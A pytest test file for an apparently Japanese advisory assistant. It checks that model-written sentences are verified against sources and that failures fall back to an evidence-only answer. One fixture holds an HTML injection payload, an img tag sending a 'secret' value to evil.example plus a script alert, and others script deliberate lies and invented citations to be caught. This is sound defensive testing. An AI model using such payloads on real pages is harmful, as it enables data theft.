"""Whatever the model does, a right answer comes within the time limit, and nothing it invents passes for checked."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from datetime import date

import pytest

from assistant.answering import Answer, Assistant, Event, Question
from assistant.answering.modelling import REASONS, ModelError
from assistant.answering.modelling.breaker import Breaker
from assistant.answering.modelling.fake import ScriptedModel, as_reply, honest, true_sentences
from knowledge.search import KnowledgeBase
from prompts import load

WAGASHI = "和菓子店の二代目。値上げに踏み切れない。似た事例は？"
SECONDS = 1.5
TODAY = date(2026, 11, 24)
TOLD = {reason: load("evidence").say(f"writer.{reason}") for reason in REASONS}
Make = Callable[..., Assistant]


@pytest.fixture
def plain(knowledge: KnowledgeBase) -> Callable[..., Answer]:
    """Ask without a model."""

    def asked(role: str = "co", text: str = WAGASHI) -> Answer:
        return Assistant(knowledge, lambda: TODAY).answer(Question(text=text, role=role))

    return asked


def asked(assistant: Assistant, role: str = "co", text: str = WAGASHI, intent: str = "") -> Answer:
    return assistant.answer(Question(text=text, role=role, intent=intent))


def worded(answer: Answer) -> list[tuple[str, str]]:
    """Return (text, status) of the sentences that the model wrote."""
    headings = load("model-similar").say("parts", answer.role).splitlines()
    return [
        (s.text, s.status) for b in answer.blocks if b.heading in headings for s in b.sentences if s.status != "note"
    ]


@pytest.mark.parametrize("intent", ["similar", "contrast", "mentor", "plan", "policy"])
@pytest.mark.parametrize("role", ["co", "cco", "owner"])
def test_what_the_model_takes_from_the_sources_is_the_answer(writing_with: Make, intent: str, role: str) -> None:
    """Its sentences are verified like any others, stand before the cards, and its name is told."""
    model = ScriptedModel(honest)
    answer = asked(
        writing_with(model), role, "持続化補助金の補助上限はいくらですか" if intent == "policy" else WAGASHI, intent
    )
    assert answer.judgement in ("answer", "caveat")
    assert (answer.writer, answer.written_by) == ("scripted:model", "scripted:model")
    heading = load(f"model-{intent}").say("parts", role).splitlines()[0]
    block = next(b for b in answer.blocks if b.heading == heading)
    assert [s.status for s in block.sentences] == ["verified"] * 4
    assert all(s.citations for s in block.sentences)
    assert [b.heading for b in answer.blocks].count(heading) == 1
    assert not set(TOLD.values()) & set(answer.notices)
    assert [s.number for s in answer.sources] == list(range(1, len(answer.sources) + 1))


def test_the_table_of_a_contrast_stays_the_evidence_writers(writing_with: Make) -> None:
    """Both sides, every row, whoever words the rest."""
    answers = [asked(writing_with(ScriptedModel(*replies)), intent="contrast") for replies in ((honest,), ())]
    with_model, without = ([b for b in answer.blocks if b.kind == "contrast"] for answer in answers)
    texts = [[[s.text for c in r.cells for s in c] for b in found for r in b.rows] for found in (with_model, without)]
    assert texts[0] == texts[1] and texts[0]


def test_finished_sentences_are_shown_while_the_rest_is_written(writing_with: Make) -> None:
    """Each draft is verified, grows, and is numbered as the answer will be."""
    assistant = writing_with(ScriptedModel(honest))
    events = list(assistant.stream(Question(text=WAGASHI)))
    drafts = [e.draft for e in events if e.kind == "draft"]
    assert len(drafts) == 4
    answer = events[-1].answer
    assert answer is not None
    final = next(b for b in answer.blocks if b.heading == "要点")
    assert [draft[-1].sentences for draft in drafts] == [final.sentences[:count] for count in range(1, 5)]
    kinds = [e.kind for e in events]
    assert kinds == ["understood", "found", *["draft"] * 4, *["block"] * len(answer.blocks), "answer"]


def test_the_first_events_do_not_wait_for_the_model(writing_with: Make) -> None:
    """Reading and search are told before the model is asked."""
    model = ScriptedModel(honest)
    stream = writing_with(model).stream(Question(text=WAGASHI))
    assert [next(stream).kind, next(stream).kind] == ["understood", "found"]
    assert model.asked == []
    stream.close()


def lying(task: str) -> list[str]:
    """Change one digit of the first true sentence that has one; the quote stays true."""
    true = true_sentences(task, 40)
    figure = next(s for s in true if re.search(r"\d", str(s["text"])))
    lie = re.sub(r"\d", lambda m: str((int(m.group()) + 1) % 10), str(figure["text"]), count=1)
    return as_reply([*[s for s in true if s is not figure][:3], {**figure, "text": lie}])


def test_a_lie_in_one_number_is_marked_for_advisers_and_left_out_for_owners(writing_with: Make) -> None:
    told = dict(worded(asked(writing_with(ScriptedModel(lying)))))
    assert sorted(told.values()) == ["unverified", "verified", "verified", "verified"]
    for_owner = worded(asked(writing_with(ScriptedModel(lying)), "owner"))
    assert [status for _, status in for_owner] == ["verified"] * 3


def invented_source(task: str) -> list[str]:
    return as_reply([{**s, "refs": [{"id": "S99", "quote": s["text"]}]} for s in true_sentences(task)])


def no_source(task: str) -> list[str]:
    return as_reply([{**s, "refs": []} for s in true_sentences(task)])


def swapped_source(task: str) -> list[str]:
    """Cite the other entry for what one entry says."""
    true = true_sentences(task, 60)
    names = list(dict.fromkeys(str(s["refs"][0]["id"]) for s in true))  # type: ignore[index]
    others = {one: names[(place + 1) % len(names)] for place, one in enumerate(names)}
    assert len(names) > 1
    return as_reply([{**s, "refs": [{"id": others[s["refs"][0]["id"]], "quote": s["text"]}]} for s in true[:6]])  # type: ignore[index]


def hostile_html(_task: str) -> list[str]:
    quote = "<img src=https://evil.example/x?q=秘密><script>alert(1)</script>"
    return as_reply([{"part": 1, "text": quote, "refs": [{"id": "S1", "quote": quote}]}] * 3)


def from_nowhere(_task: str) -> list[str]:
    texts = [f"売上は{n}倍になり、全国で表彰されたと会社が発表しました。" for n in range(2, 9)]
    return as_reply([{"part": 1, "text": t, "refs": [{"id": "S1", "quote": t}]} for t in texts])


FAILING: dict[str, tuple[object, str]] = {
    "silent": ([5.0], "slow"),
    "slow after a start": (['{"sentences": [', 5.0], "slow"),
    "broken": ([ModelError("failed")], "failed"),
    "half a stream": (['{"sentences": [{"part": 1, "te', ModelError("failed")], "failed"),
    "wrong JSON": (['{"sentences": {"a": [1, 2'], "unreadable"),
    "prose": (["値上げは段階的に行うと", "よいでしょう。"], "unreadable"),
    "nothing": ([], "unreadable"),
    "a refusal": (["申し訳ありませんが、お答えできません。"], "refused"),
    "an empty draft": (['{"sentences": []}'], "refused"),
    "ten megabytes": (["値" * 100_000] * 100, "unreadable"),
    "ten megabytes of sentences": (['{"part": 1, "text": "値上げ", "refs": []}'] * 100_000, "unreadable"),
    "an invented source": (invented_source, "unverified"),
    "no source": (no_source, "unverified"),
    "another source": (swapped_source, "unverified"),
    "quotes from nowhere": (from_nowhere, "unverified"),
    "hostile HTML": (hostile_html, "unverified"),
}


@pytest.mark.parametrize("role", ["co", "owner"])
@pytest.mark.parametrize("name", FAILING)
def test_every_failure_ends_in_the_evidence_answer_in_time(
    writing_with: Make, plain: Callable[..., Answer], name: str, role: str
) -> None:
    """The same blocks and sources as without a model, and one sentence that says why."""
    reply, reason = FAILING[name]
    model = ScriptedModel(reply, reply)  # type: ignore[arg-type]
    answer, expected = asked(writing_with(model), role), plain(role)
    assert answer.notices[0] == TOLD[reason]
    assert (answer.blocks, answer.sources, answer.writer) == (expected.blocks, expected.sources, "")
    assert "evil" not in str(answer)
    assert len(model.asked) == (2 if reason in ("failed", "unreadable") else 1), "asked again only if it can help"


def test_the_second_try_counts(writing_with: Make) -> None:
    """A failure at once is tried again, without the shape that not every server knows."""
    model = ScriptedModel([ModelError("failed")], honest)
    answer = asked(writing_with(model))
    assert answer.writer and [shaped for _, _, shaped in model.asked] == [True, False]


def test_a_late_failure_is_not_tried_again(writing_with: Make) -> None:
    """The rest of the time would not do."""
    model = ScriptedModel([SECONDS * 0.6, ModelError("failed")], honest)
    assert asked(writing_with(model)).notices[0] == TOLD["failed"]
    assert len(model.asked) == 1


def test_a_model_that_keeps_failing_is_left_alone(writing_with: Make) -> None:
    """After three answers nobody waits for it; after its rest one answer tries it."""
    now = [0.0]
    model = ScriptedModel(*[[ModelError("failed")]] * 6, honest)
    assistant = writing_with(model, Breaker(3, 60, lambda: now[0]))
    told = [asked(assistant).notices[0] for _ in range(5)]
    assert told == [TOLD["failed"]] * 3 + [TOLD["resting"]] * 2
    assert len(model.asked) == 6
    now[0] = 61.0
    assert asked(assistant).writer and asked(assistant).notices[0] == TOLD["failed"]


def test_a_reader_who_goes_away_neither_blocks_nor_counts(writing_with: Make) -> None:
    """Closing the stream stops listening; the breaker learns nothing of it."""
    breaker = Breaker(1, 60)
    assistant = writing_with(ScriptedModel(honest, [0.2, *["あ"] * 9]), breaker)
    stream = assistant.stream(Question(text=WAGASHI))
    assert [next(stream).kind for _ in range(3)][-1] == "draft"
    stream.close()
    assert breaker.admits()


def test_too_many_readers_at_once_get_the_evidence_answer_at_once(writing_with: Make) -> None:
    """Replies under way are limited, those that nobody waits for any more included."""
    assistant = writing_with(ScriptedModel(*[[6.0, "あ"]] * 9), Breaker(100), seconds=0.01)
    told = [assistant.answer(Question(text=WAGASHI)).notices[0] for _ in range(9)]
    assert told == [TOLD["slow"]] * 8 + [TOLD["busy"]]


def test_where_nothing_was_found_no_model_is_asked(writing_with: Make) -> None:
    """A refusal is not reworded."""
    model = ScriptedModel(honest)
    answer = asked(writing_with(model), text="火星の土で育てたトマトの宇宙検疫の手続き")
    assert (answer.judgement, model.asked) == ("nothing", [])


def test_the_model_sees_masked_words_and_calculated_numbers(writing_with: Make) -> None:
    """A name never reaches it; what is to be calculated is calculated for it."""
    model = ScriptedModel(honest)
    asked(
        writing_with(model),
        text="田中一郎（090-1234-5678）です。固定費350万円、原価4割の和菓子店です。損益分岐点はいくら？",
        intent="plan",
    )
    rules, task, _ = model.asked[0]
    assert "090-1234-5678" not in task and "損益分岐点売上高: 5,833,334円（350万円 ÷ 60%" in task
    token = re.search(r"<<質問 (\w+)>>", task)
    assert token and token[1] in rules


def test_repeated_sentences_are_taken_once(writing_with: Make) -> None:
    """Small models go round in circles."""

    def circling(task: str) -> Iterable[str]:
        return as_reply(true_sentences(task, 2) * 8)

    assert len(worded(asked(writing_with(ScriptedModel(circling))))) == 2


def test_an_answer_is_never_without_its_events(writing_with: Make) -> None:
    """A fallback after drafts sends the evidence writer's blocks, which replace them."""

    def true_then_false(task: str) -> Iterable[str]:
        return as_reply(
            [*true_sentences(task, 2), *[{"part": 1, "text": f"嘘{n}です。", "refs": []} for n in range(5)]]
        )

    events: list[Event] = list(writing_with(ScriptedModel(true_then_false)).stream(Question(text=WAGASHI)))
    kinds = [e.kind for e in events]
    assert "draft" in kinds and kinds.index("block") > max(i for i, k in enumerate(kinds) if k == "draft")
    assert events[-1].answer and events[-1].answer.notices[0] == TOLD["unverified"]
